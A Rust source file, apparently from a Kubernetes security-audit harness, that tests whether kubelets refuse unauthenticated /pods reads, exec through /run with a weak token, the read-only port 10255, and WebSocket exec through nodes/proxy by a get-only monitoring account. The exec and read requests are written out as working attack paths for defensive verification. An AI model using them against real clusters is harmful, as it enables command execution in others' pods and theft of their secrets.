//! Attacks on `kubelet-access`: who may come in at a kubelet's own door, past the API server.

use super::question::Question;
use super::scene::{Account, Scene};
use super::{AttackError, Finding, Verdict, Wishes, answered};

/// Nobody, in a pod, asks the kubelet for the pods of its node; one of them has the marker in its environment.
pub fn authentication(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let (url, _) = target(scene, "/pods")?;
    let answer = scene.ask_from_pod(Account::Nobody, &Question::get(&url).find(&scene.marker.clone()))?;
    let gained = "without any credential the kubelet told what runs on its node, environment and all";
    Ok(Finding::by_answer(&answer, &format!("GET {url} from a pod, no credential"), gained, &["401", "403"]))
}

/// Any account's token, in a pod, has the kubelet run a command in another pod.
pub fn authorization(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let path = victim(scene)?;
    let (url, _) = target(scene, &format!("/run/{path}?cmd=printenv%20MARKER"))?;
    let question = Question::get(&url).method("POST").find(&scene.marker.clone());
    let answer = scene.ask_from_pod(Account::Default, &question)?;
    let gained = "a token that may do nothing ran a command in another pod";
    // Where no token is read at all the answer is 401.
    Ok(Finding::by_answer(&answer, &format!("POST {url} with a pod's own token"), gained, &["403", "401"]))
}

/// Plain HTTP, in a pod, to the port that asks nobody who they are.
pub fn read_only_port(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    victim(scene)?;
    let url = format!("http://{}:10255/pods", scene.node()?.address);
    let answer = scene.ask_from_pod(Account::Nobody, &Question::get(&url).find(&scene.marker.clone()))?;
    let gained = "in plain text and without any credential the kubelet told what runs on its node";
    Ok(Finding::by_answer(&answer, &format!("GET {url} from a pod"), gained, &["connection refused"]))
}

/// The monitoring account's `get` on nodes/proxy, by WebSocket, is a command in any pod of the node. That
/// monitoring itself still works is part of the verdict: an account that may do nothing proves nothing.
pub fn grants(scene: &mut Scene, _: &Wishes) -> Result<Finding, AttackError> {
    let path = victim(scene)?;
    let (url, pods) =
        target(scene, &format!("/exec/{path}?output=1&error=1&command=printenv&command=MARKER"))?;
    let account = Account::System("monitoring");
    let watched = scene.ask_from_pod(account, &Question::get(&pods))?;
    let question = Question::get(&url).websocket().find(&scene.marker.clone());
    let answer = scene.ask_from_pod(account, &question)?;
    let gained = "an account that may only `get` ran a command, by a WebSocket";
    let mut finding = Finding::by_answer(
        &answer,
        &format!("GET {url} upgraded to a WebSocket, with the monitoring account's token"),
        gained,
        &["subresource(s)=[proxy]", "401"],
    );
    finding.evidence.push(answered("GET /pods with the same token", &watched));
    if finding.verdict == Verdict::Defeated && watched.status != Some(200) {
        return Ok(Finding::inconclusive("monitoring itself is refused as well", finding.evidence));
    }
    Ok(finding)
}

/// A pod on the attacked node whose environment has the marker; as the kubelet's API names it.
fn victim(scene: &mut Scene) -> Result<String, AttackError> {
    let node = scene.node()?.name;
    let sleep = ["sleep", "600"].map(str::to_owned);
    let pod = scene.pod(Some(&node), Account::Nobody, &sleep)?;
    let meta = pod.metadata;
    Ok(format!("{}/{}/toolbox", meta.namespace.unwrap_or_default(), meta.name.unwrap_or_default()))
}

/// A path of the attacked kubelet, and its list of pods.
fn target(scene: &mut Scene, path: &str) -> Result<(String, String), AttackError> {
    if path == "/pods" {
        victim(scene)?;
    }
    let address = scene.node()?.address;
    Ok((format!("https://{address}:10250{path}"), format!("https://{address}:10250/pods")))
}
